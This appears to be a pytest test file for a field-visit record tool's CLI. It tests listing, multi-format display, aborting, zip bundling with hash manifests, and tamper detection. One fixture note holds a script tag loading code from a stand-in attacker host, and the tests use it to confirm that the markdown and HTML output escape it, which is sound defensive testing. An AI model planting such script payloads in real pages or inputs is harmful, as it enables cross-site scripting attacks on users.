"""`fieldkit visits ...`: list, show in every format, abort, bundle, schema."""

from __future__ import annotations

import hashlib
import json
import re
import zipfile
from datetime import datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

import pytest
from cli_runner import json_payload
from records_factory import CHINA, answers, completed, fields, snapshot

from fieldkit.cli.app import run_app
from fieldkit.records.models import SCHEMA_VERSION, Note, VisitStatus
from fieldkit.records.store import RecordStore

MAY_1 = datetime(2024, 5, 1, 9, 0, tzinfo=CHINA)
MAY_20 = datetime(2024, 5, 20, 9, 0, tzinfo=CHINA)


def fieldkit(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exited:
        run_app(list(args))
    captured = capsys.readouterr()
    return int(exited.value.code or 0), captured.out, captured.err


@pytest.fixture
def records(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """An old completed visit (with a photo), a newer completed one, one in progress."""
    root = tmp_path / "records"
    monkeypatch.setenv("FIELDKIT_RECORDS", str(root))
    monkeypatch.setenv("COLUMNS", "200")
    photo = tmp_path / "rlk.jpg"
    photo.write_bytes(b"\xff\xd8 photo")
    for started, customer in ((MAY_1, "旧客户"), (MAY_20, "新客户")):
        store = RecordStore(root, clock=lambda started=started: started)
        with store.create(fields(customer), snapshot()) as handle:
            record = completed(handle.record, started)
            evil = Note(text='<script src="http://evil.example/x.js"></script>', at=started)
            steps = list(record.answers)
            steps[1] = steps[1].model_copy(
                update={"attachments": [handle.attach(photo)], "notes": [evil]}
            )
            handle.save(record.model_copy(update={"answers": steps}))
    store = RecordStore(root, clock=lambda: MAY_20 + timedelta(hours=1))
    with store.create(fields("进行中客户"), snapshot()) as handle:
        handle.save(handle.record.model_copy(update={"answers": answers(MAY_20)[:1]}))
    return root


def _ids(root: Path) -> list[str]:
    return sorted(p.name for p in root.iterdir())


def test_list_json_is_newest_first_and_filters_by_status(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = fieldkit(capsys, "visits", "list", "--json")
    assert code == 0
    listed = json_payload(out, "fieldkit.visits/1")
    assert [v["customer"] for v in listed] == ["进行中客户", "新客户", "旧客户"]
    assert listed[1]["digest_ok"] is True and listed[0]["digest_ok"] is None
    code, out, _ = fieldkit(capsys, "visits", "list", "--json", "--status", "in_progress")
    assert [v["status"] for v in json_payload(out, "fieldkit.visits/1")] == ["in_progress"]


def test_list_reports_a_broken_record_and_shows_the_rest(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    broken = records / _ids(records)[0] / "visit.json"
    broken.write_text('{"schema_version": 1,', "utf-8")
    code, out, err = fieldkit(capsys, "visits", "list", "--records", str(records))
    assert code == 0
    assert "新客户" in out and "旧客户" not in out
    assert f"{broken}:1:22: invalid JSON" in err


def test_show_text_has_every_step_and_the_ping_attempts(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    visit_id = _ids(records)[0]
    code, out, _ = fieldkit(capsys, "visits", "show", visit_id[-6:], "--lang", "en")
    assert code == 0
    for expected in ("旧客户", "Gateway", "Power on", "Ping the gateway", "Attempt 2", "rlk.jpg"):
        assert expected in out
    assert "digest matches" in out


def test_show_json_is_the_record(records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    visit_id = _ids(records)[0]
    code, out, _ = fieldkit(capsys, "visits", "show", visit_id, "--format", "json")
    assert code == 0
    assert json.loads(out) == json.loads((records / visit_id / "visit.json").read_text("utf-8"))


def test_show_md_escapes_entered_text(records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = fieldkit(capsys, "visits", "show", _ids(records)[0], "-f", "md", "--lang", "zh")
    assert code == 0
    assert out.startswith("# 现场记录")
    assert "<script" not in out and "&lt;script" in out


class _References(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.references: list[str] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.references += [v or "" for k, v in attrs if k in ("src", "href", "srcset", "action")]

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def test_show_html_is_self_contained_and_escaped(
    records: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    page = tmp_path / "visit.html"
    visit_id = _ids(records)[0]
    code, _, _ = fieldkit(capsys, "visits", "show", visit_id, "-f", "html", "-o", str(page))
    assert code == 0
    content = page.read_text("utf-8")
    parsed = _References()
    parsed.feed(content)
    assert parsed.references == []
    assert "script" not in parsed.tags and "link" not in parsed.tags
    assert not re.search(r"url\(|@import|https?://(?!evil)", content)
    text = " ".join(parsed.text)
    photo_sha = hashlib.sha256(b"\xff\xd8 photo").hexdigest()
    for expected in ("旧客户", "attachments/rlk.jpg", photo_sha, "seq=1", '<script src="http'):
        assert expected in text  # the note is shown as text, never as markup


def test_show_flags_a_record_changed_after_completion(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    visit_id = _ids(records)[0]
    path = records / visit_id / "visit.json"
    path.write_text(path.read_text("utf-8").replace("127.0.0.1", "127.0.0.2", 1), "utf-8")
    code, out, _ = fieldkit(capsys, "visits", "show", visit_id, "-f", "md", "--lang", "en")
    assert code == 0
    assert "DIGEST MISMATCH" in out


def test_abort_ends_a_visit_in_progress(records: Path, capsys: pytest.CaptureFixture[str]) -> None:
    in_progress = _ids(records)[-1]
    code, _, err = fieldkit(capsys, "visits", "abort", in_progress, "--reason", "客户取消")
    assert code == 0 and "aborted" in err
    record = RecordStore(records).load(in_progress)
    assert record.status is VisitStatus.ABORTED and record.abort_reason == "客户取消"
    code, _, err = fieldkit(capsys, "visits", "abort", in_progress, "--reason", "again")
    assert code == 2 and "only a visit in progress" in err


def test_show_of_an_unknown_visit_is_a_clear_error(
    records: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = fieldkit(capsys, "visits", "show", "NOPE")
    assert code == 2 and out == ""
    assert "no visit 'NOPE'" in err


def test_bundle_holds_completed_visits_with_a_manifest(
    records: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "bundle.zip"
    code, _, err = fieldkit(capsys, "visits", "bundle", "--since", "2024-05-10", "-o", str(output))
    assert code == 0, err
    with zipfile.ZipFile(output) as bundle:
        manifest = json.loads(bundle.read("manifest.json"))
        newest = _ids(records)[1]
        assert [v["visit_id"] for v in manifest["visits"]] == [newest]
        entry = manifest["visits"][0]
        record = json.loads(bundle.read(f"{newest}/visit.json"))
        assert entry["digest"] == record["digest"]
        for item in entry["files"]:
            content = bundle.read(item["path"])
            assert hashlib.sha256(content).hexdigest() == item["sha256"]
            assert len(content) == item["size"]
        assert {item["path"] for item in entry["files"]} == {
            f"{newest}/visit.json",
            f"{newest}/attachments/rlk.jpg",
        }


def test_bundle_leaves_out_a_changed_record(
    records: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    oldest = _ids(records)[0]
    path = records / oldest / "visit.json"
    path.write_text(path.read_text("utf-8").replace("旧客户", "改过的客户"), "utf-8")
    output = tmp_path / "bundle.zip"
    code, out, err = fieldkit(capsys, "visits", "bundle", "-o", str(output), "--json")
    assert code == 0
    bundled = json_payload(out, "fieldkit.bundle/1")
    assert oldest not in bundled["visits"] and len(bundled["visits"]) == 1
    assert f"{oldest}: left out: changed after completion" in err


def test_bundle_with_nothing_to_bundle_writes_nothing(
    records: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    output = tmp_path / "bundle.zip"
    code, _, err = fieldkit(capsys, "visits", "bundle", "--since", "2030-01-01", "-o", str(output))
    assert code == 2 and "nothing to bundle" in err
    assert not output.exists()
    code, _, err = fieldkit(capsys, "visits", "bundle", "--since", "May", "-o", str(output))
    assert code == 2 and "not a date" in err


@pytest.mark.parametrize(
    "command",
    [
        ("visits", "show", "ID", "-f", "text"),
        ("visits", "show", "ID", "-f", "html"),
        ("visits", "bundle"),
    ],
)
def test_writing_onto_a_folder_is_a_clear_error(
    records: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path, command: tuple[str, ...]
) -> None:
    newest = RecordStore(records).visit_ids()[0]
    args = [newest if part == "ID" else part for part in command]
    code, _, err = fieldkit(capsys, *args, "-o", str(tmp_path))
    assert code == 2
    assert err == f"fieldkit: error: -o {tmp_path}: is a folder; give a file name\n"


def test_schema_describes_the_record(capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = fieldkit(capsys, "visits", "schema")
    schema = json.loads(out)
    assert code == 0
    assert schema["title"] == "VisitRecord"
    assert schema["properties"]["schema_version"]["const"] == SCHEMA_VERSION
    assert {"answers", "checklist", "digest", "status"} <= set(schema["required"]) | set(
        schema["properties"]
    )


def test_a_record_with_many_problems_is_one_warning_line_in_list_and_bundle(
    records: Path, capsys: pytest.CaptureFixture[str], tmp_path: Path
) -> None:
    """A record stripped of its fields has five problems; each command still warns in one line."""
    broken = records / "20240521T010000Z-ABCDEFGH12"
    broken.mkdir()
    (broken / "visit.json").write_text(
        json.dumps({"schema_version": SCHEMA_VERSION, "visit_id": broken.name}), encoding="utf-8"
    )
    for command in (("visits", "list"), ("visits", "bundle", "-o", str(tmp_path / "b.zip"))):
        code, _, err = fieldkit(capsys, *command)
        assert code == 0, err
        [warning] = [line for line in err.splitlines() if broken.name in line]
        assert warning.startswith("fieldkit: warning: "), command
        assert re.search(r": Field required \(and \d+ more problems\)$", warning), warning
        assert all(line.startswith(("fieldkit: ", "wrote ")) for line in err.splitlines()), err
